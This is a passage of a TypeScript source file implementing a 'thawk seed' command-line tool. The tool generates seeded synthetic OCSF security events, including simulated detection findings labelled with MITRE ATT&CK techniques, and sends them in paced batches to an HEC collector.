    technique: ['T1568.002', 'Domain Generation Algorithms'],
    severityId: 3,
    weight: 10,
  },
  {
    title: 'Large upload to an uncommon destination',
    tactic: ['TA0010', 'Exfiltration'],
    technique: ['T1048', 'Exfiltration Over Alternative Protocol'],
    severityId: 3,
    weight: 5,
  },
  {
    title: 'Internal port scan',
    tactic: ['TA0007', 'Discovery'],
    technique: ['T1046', 'Network Service Discovery'],
    severityId: 2,
    weight: 9,
  },
  {
    title: 'Domain admin group enumeration',
    tactic: ['TA0007', 'Discovery'],
    technique: ['T1069.002', 'Domain Groups'],
    severityId: 2,
    weight: 7,
  },
  {
    title: 'Logon with a valid account from an unusual country',
    tactic: ['TA0001', 'Initial Access'],
    technique: ['T1078', 'Valid Accounts'],
    severityId: 3,
    weight: 6,
  },
  {
    title: 'Mass file rename with an unknown extension',
    tactic: ['TA0040', 'Impact'],
    technique: ['T1486', 'Data Encrypted for Impact'],
    severityId: 5,
    weight: 1,
  },
  {
    title: 'Rundll32 launched without arguments',
    tactic: ['TA0005', 'Defense Evasion'],
    technique: ['T1218.011', 'Rundll32'],
    severityId: 3,
    weight: 4,
  },
];

const SEVERITY_NAMES: Readonly<Record<number, string>> = {
  1: 'Informational',
  2: 'Low',
  3: 'Medium',
  4: 'High',
  5: 'Critical',
};

function detectionFinding(pools: EntityPools, random: Random, time: number): OcsfEvent {
  const rule =
    DETECTION_RULES[random.weighted(DETECTION_RULES.map((r, i) => [i, r.weight] as const))]!;
  // Create 1, Update 2, Close 3; status New 1, In Progress 2, Resolved 4.
  const activityId = random.weighted([
    [1, 80],
    [2, 15],
    [3, 5],
  ] as const);
  const statusId = { 1: 1, 2: 2, 3: 4 }[activityId];
  const host = pools.hosts.pick(random);
  const user = pools.users.pick(random);
  const event = base(
    2004,
    activityId,
    time,
    rule.severityId,
    { name: 'TelHawk Detections', vendor_name: 'TelHawk' },
    random,
  );
  const confidenceId = random.weighted([
    [1, 20],
    [2, 50],
    [3, 30],
  ] as const);
  Object.assign(event, {
    status_id: statusId,
    status: { 1: 'New', 2: 'In Progress', 4: 'Resolved' }[statusId],
    severity: SEVERITY_NAMES[rule.severityId],
    confidence_id: confidenceId,
    confidence: { 1: 'Low', 2: 'Medium', 3: 'High' }[confidenceId],
    finding_info: {
      uid: random.hex(32),
      title: rule.title,
      types: [rule.tactic[1]],
      analytic: { name: rule.title, type_id: 1, type: 'Rule', uid: random.hex(8) },
      created_time: time,
    },
    attacks: [
      {
        version: '14',
        tactic: { uid: rule.tactic[0], name: rule.tactic[1] },
        technique: { uid: rule.technique[0], name: rule.technique[1] },
      },
    ],
    actor: { user: { name: user.name } },
    device: device(host),
    message: `${rule.title} on ${host.hostname}`,
  });
  return event;
}

const BUILDERS: Readonly<
  Record<number, (pools: EntityPools, random: Random, time: number) => OcsfEvent>
> = {
  3002: authentication,
  4001: networkActivity,
  1007: processActivity,
  1001: fileActivity,
  4003: dnsActivity,
  4002: httpActivity,
  2004: detectionFinding,
};

/**
 * Generates `options.events` OCSF 1.1.0 events in time order, mixed by class as in
 * `CLASS_MIX`. A pure function of its options: no clock, no `Math.random`.
 */
export function* generateEvents(options: GenerateOptions): Generator<OcsfEvent> {
  const random = new Random(options.seed);
  const pools = buildPools(random);
  const classMix = Object.entries(CLASS_MIX).map(([uid, share]) => [Number(uid), share] as const);
  const start = options.endMillis - options.spreadMillis;
  for (let i = 0; i < options.events; i++) {
    // Even spacing with jitter inside each slot keeps the stream in time order.
    const time =
      options.events <= 1
        ? options.endMillis
        : Math.floor(start + ((i + random.next()) / options.events) * options.spreadMillis);
    const classUid = random.weighted(classMix);
    yield BUILDERS[classUid]!(pools, random, Math.min(time, options.endMillis));
  }
}

export interface SendSeedOptions extends GenerateOptions {
  /** HEC base URL, such as `http://127.0.0.1:8088`. */
  url: string;
  token: string;
  /** Events per second; 0 sends as fast as the server accepts. */
  ratePerSecond: number;
  /** Events per HEC request. */
  batchSize: number;
  /** Index of every event; the token's default index when absent. */
  index?: string;
  /** Called after each accepted request with the running count. */
  onProgress?: (sent: number) => void;
}

/** Largest request body built; HEC's default cap is 1,000,000 bytes. */
const MAX_BODY_BYTES = 900_000;
export const SEED_SOURCE = 'thawk:seed';

/**
 * Generates events and posts them to `/services/collector/event` in batches, pacing
 * to `ratePerSecond`. With `spreadMillis` 0 each event is stamped with its send time.
 * Retries 429 and 503 responses and throws on any other rejection.
 */
export async function sendSeedEvents(
  options: SendSeedOptions,
): Promise<{ sent: number; elapsedMillis: number }> {
  const started = Date.now();
  const client = new HecClient(options.url, options.token);
  let sent = 0;
  let body = '';
  let inBody = 0;
  const flush = async () => {
    await client.post(body);
    sent += inBody;
    body = '';
    inBody = 0;
    options.onProgress?.(sent);
    if (options.ratePerSecond > 0) {
      const due = started + (sent / options.ratePerSecond) * 1000;
      const wait = due - Date.now();
      if (wait > 0) await sleep(wait);
    }
  };
  for (const event of generateEvents(options)) {
    if (options.spreadMillis === 0) event.time = Date.now();
    const envelope = JSON.stringify({
      time: event.time / 1000,
      host: (event.device as { hostname?: string } | undefined)?.hostname,
      source: SEED_SOURCE,
      sourcetype: 'ocsf',
      index: options.index,
      event,
    });
    if (inBody > 0 && body.length + envelope.length > MAX_BODY_BYTES) await flush();
    body += `${envelope}\n`;
    inBody++;
    if (inBody >= options.batchSize) await flush();
  }
  if (inBody > 0) await flush();
  return { sent, elapsedMillis: Date.now() - started };
}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

const DURATION_UNITS: Readonly<Record<string, number>> = {
  ms: 1,
  s: 1_000,
  m: 60_000,
  h: 3_600_000,
  d: 86_400_000,
  w: 604_800_000,
};

/** Parses a duration such as `90s`, `15m`, `24h` or `7d` into milliseconds; `0` is zero. */
export function parseDuration(text: string): number {
  if (text.trim() === '0') return 0;
  const match = /^\s*(\d+(?:\.\d+)?)\s*(ms|s|m|h|d|w)\s*$/.exec(text);
  if (!match) {
    throw new InvalidArgumentError(
      `expected a duration such as 90s, 15m, 24h or 7d, got ${JSON.stringify(text)}`,
    );
  }
  return Math.round(Number(match[1]) * DURATION_UNITS[match[2]!]!);
}

function wholeNumber(minimum: number, maximum = Number.MAX_SAFE_INTEGER) {
  return (value: string): number => {
    const parsed = Number(value);
    if (!Number.isSafeInteger(parsed) || parsed < minimum || parsed > maximum) {
      throw new InvalidArgumentError(
        `expected a whole number from ${minimum} to ${maximum}, got ${JSON.stringify(value)}`,
      );
    }
    return parsed;
  };
}

function timeArgument(value: string): number {
  const millis = Date.parse(value);
  if (Number.isNaN(millis)) {
    throw new InvalidArgumentError(
      `expected an ISO 8601 time such as 2026-01-31T12:00:00Z, got ${JSON.stringify(value)}`,
    );
  }
  return millis;
}

/** Builds the `thawk seed` command; `defaultToken` finds a token when `--token` is absent. */
export function seedCommand(defaultToken: () => string | undefined): Command {
  return new Command('seed')
    .description(
      'send realistic OCSF events (sourcetype ocsf) over HEC: logons, network, DNS, HTTP, processes, files and detection findings',
    )
    .option('-n, --events <count>', 'number of events to send', wholeNumber(1), 10_000)
    .option('--rate <events>', 'events per second; 0 sends as fast as possible', wholeNumber(0), 0)
    .addOption(
      new Option(
        '--spread <duration>',
        'spread event times over this long before --end, e.g. 24h or 7d; 0 stamps each event with its send time',
      )
        .argParser(parseDuration)
        .default(86_400_000, '24h'),
    )
    .option('--end <time>', 'time of the last event, ISO 8601 (default: now)', timeArgument)
    .option('--batch-size <events>', 'events per HEC request', wholeNumber(1), 500)
    .option(
      '--seed <number>',
      'random seed from 0 to 4294967295; the same seed gives the same events (default: random)',
      wholeNumber(0, 0xffff_ffff),
    )
    .option('--url <url>', 'HEC base URL', defaultHecUrl())
    .option('--token <token>', 'HEC token (default: $TELHAWK_HEC_TOKEN, then the data folder)')
    .option('--index <index>', 'index of every event (default: the token default)')
    .option('--quiet', 'no progress output')
    .action(async (options) => {
      const token: string | undefined = options.token ?? defaultToken();
      if (!token) {
        process.stderr.write('thawk: no HEC token: pass --token or set TELHAWK_HEC_TOKEN\n');
        process.exit(1);
      }
      const seed: number = options.seed ?? Math.floor(Math.random() * 0x1_0000_0000);
      const progress = !options.quiet && process.stderr.isTTY;
      try {
        const { sent, elapsedMillis } = await sendSeedEvents({
          url: options.url,
          token,
          events: options.events,
          seed,
          endMillis: options.end ?? Date.now(),
          spreadMillis: options.spread,
          ratePerSecond: options.rate,
          batchSize: options.batchSize,
          index: options.index,
          onProgress: progress
            ? (count) => process.stderr.write(`\rsent ${count}/${options.events} events`)
            : undefined,
        });
        if (progress) process.stderr.write('\n');
        const seconds = (elapsedMillis / 1000).toFixed(1);
        process.stdout.write(`sent ${sent} events (seed ${seed}) in ${seconds} s\n`);
      } catch (error) {
        process.stderr.write(`thawk: ${(error as Error).message}\n`);
        process.exit(1);
      }
    });
}
